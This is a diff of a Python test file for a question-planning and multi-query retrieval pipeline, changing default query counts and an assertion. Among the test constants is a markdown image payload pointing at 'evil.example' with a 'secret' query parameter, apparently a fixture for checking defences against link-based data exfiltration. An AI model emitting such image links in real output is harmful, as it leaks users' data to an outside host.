@@ -24,8 +24,8 @@ from tests.endpoint import Endpoint
 pytestmark = pytest.mark.anyio
 
 QUESTION = SubQuery("Who built the pendulum clock after 1650?")
-MULTI_QUERY = MultiQueryStage(stage="multi_query", queries=3)
-PLANNER = PlannerStage(stage="planner", queries=3)
+MULTI_QUERY = MultiQueryStage(stage="multi_query")
+PLANNER = PlannerStage(stage="planner")
 ALL_FIELDS = "built, date, maker, path, section, sender, title, topics, weight, working, year"
 LONG_NAME = "n" * 500
 IMAGE = "![x](http://evil.example/?q=secret)"
@@ -152,7 +152,7 @@ async def test_the_planner_is_told_the_question_the_day_and_what_can_be_filtered
             ],
         }
     ]
-    assert "at most 3 " in chat_server.requests[0]["messages"][0]["content"]
+    assert "at most 4 " in chat_server.requests[0]["messages"][0]["content"]
 
 
 async def test_a_plan_becomes_queries_with_collections_filters_weights_and_reasons(
